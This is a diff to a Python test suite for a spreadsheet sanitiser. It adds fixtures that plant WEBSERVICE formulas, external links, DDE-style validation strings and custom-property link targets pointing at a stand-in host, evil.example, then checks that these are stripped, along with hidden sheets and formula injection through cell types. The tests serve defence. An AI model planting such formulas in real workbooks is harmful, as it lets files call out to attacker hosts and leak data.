@@ -348,7 +348,13 @@ def alive(workbook: Workbook) -> None:
     sheet.defined_names["own"] = DefinedName("own", attr_text="[1]Other!A1")
     rule = FormulaRule(formula=['WEBSERVICE("http://evil.example")=1'])
     sheet.conditional_formatting.add("A1:A9", rule)
-    for rule_text in ('"T0,T1"', 'WEBSERVICE("http://evil.example")'):
+    for rule_text in (
+        '"T0,T1"',
+        'WEBSERVICE("http://evil.example")',
+        '"T0, =WEBSERVICE(A1)"',
+        '"A+,-,-WEBSERVICE(A1)"',
+        '"A+,-,R-"',
+    ):
         sheet.add_data_validation(DataValidation("list", formula1=rule_text, sqref="B9"))
     chart = BarChart()
     chart.add_data(Reference(sheet, min_col=3, min_row=5, max_row=7))
@@ -369,7 +375,8 @@ def test_nothing_that_is_followed_or_calculated_is_sent_on() -> None:
         assert [sign for sign in ALIVE if sign in bare] == [], name
         assert [sign for sign in ALIVE if sign in name.encode()] == []
     sheet = loaded(marked(whole))[SHEET]
-    assert [rule.formula1 for rule in sheet.data_validations.dataValidation] == ['"T0,T1"']
+    rules = [rule.formula1 for rule in sheet.data_validations.dataValidation]
+    assert rules == ['"T0,T1"', '"A+,-,R-"']
 
 
 MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"
@@ -399,6 +406,7 @@ PARTS = {
     "xl/webextensions/taskpanes.xml": ("taskpanes+xml", "", "webextensiontaskpanes"),
 }  # fmt: skip
 INSIDE = {
+    "xl/theme/theme1.xml": '<!-- evil.example --><a:extLst><a:ext uri="evil.example"/></a:extLst>',
     "xl/workbook.xml": f'<externalReferences xmlns:r="{REL}"><externalReference r:id="n0"/>'
     "</externalReferences>",
     "xl/worksheets/sheet1.xml": f'<pageSetup xmlns:r="{REL}" r:id="n10"/>'
@@ -410,7 +418,14 @@ INSIDE = {
     ' destinationFile="http://evil.example/a.htm"/></webPublishItems><extLst><ext'
     ' uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:cf'
     ' xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
-    "WEBSERVICE(evil.example)</x14:cf></ext></extLst>",
+    "WEBSERVICE(evil.example)</x14:cf></ext></extLst>"
+    '<scenarios><scenario name="evil.example"><inputCells r="A1" val="1"/></scenario></scenarios>',
+}
+CONTENTS = {
+    "docProps/custom.xml": f'<Properties xmlns="{REL[:-13]}custom-properties"'
+    f' xmlns:vt="{REL[:-13]}docPropsVTypes"><property pid="2" name="a" linkTarget="evil.example"'
+    ' fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}"><vt:lpwstr>1</vt:lpwstr></property>'
+    "</Properties>",
 }
 KEPT_PARTS = re.compile(
     r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml|xl/_rels/workbook\.xml\.rels"
@@ -446,7 +461,7 @@ def with_everything(content: bytes) -> bytes:
             after.writestr(name, part)
         assert not ends
         for name in PARTS:
-            after.writestr(name, b"<evil.example/>")
+            after.writestr(name, CONTENTS.get(name, "<evil.example/>"))
     return buffer.getvalue()
 
 
@@ -457,6 +472,42 @@ def test_no_part_is_sent_on_but_those_that_say_what_cells_hold() -> None:
         for name in package.namelist():
             assert b"evil" not in package.read(name), name
             assert b'TargetMode="External"' not in package.read(name), name
+
+
+@pytest.mark.parametrize("kind", ["f", "str", "e", "x"])
+def test_no_type_of_a_cell_makes_a_formula_of_its_value(kind: str) -> None:
+    row = f'<sheetData><row r="20"><c r="A20" t="{kind}"><v>=A1+1</v></c></row></sheetData>'
+    result = marked(bomb(sheet=row))
+    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
+        sheet = package.read("xl/worksheets/sheet2.xml")
+    assert b"=A1+1" in sheet
+    assert b"<f" not in sheet.replace(b"<fo", b"")
+
+
+@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
+def test_hidden_sheets_are_left_out(state: str) -> None:
+    def change(workbook: Workbook) -> None:
+        workbook["Заметки"].sheet_state = state
+
+    result = marked(made(change))
+    assert loaded(result).sheetnames == ["Замечания", SHEET]
+    assert result.lost[-1] == "sheets"
+    old = xlwt.Workbook()
+    for name, is_hidden in ((SHEET, 0), ("Заметки", 1)):
+        sheet = old.add_sheet(name)
+        sheet.write(0, 0, "своё")
+        sheet.visibility = is_hidden
+    buffer = io.BytesIO()
+    old.save(buffer)
+    assert loaded(marked(buffer.getvalue())).sheetnames == ["Замечания", SHEET]
+
+
+def test_a_template_comes_back_as_a_workbook() -> None:
+    def change(workbook: Workbook) -> None:
+        workbook.template = True
+
+    with zipfile.ZipFile(io.BytesIO(marked(made(change)).content)) as package:
+        assert b"template" not in package.read("[Content_Types].xml")
 
 
 def test_a_formula_becomes_its_value() -> None:
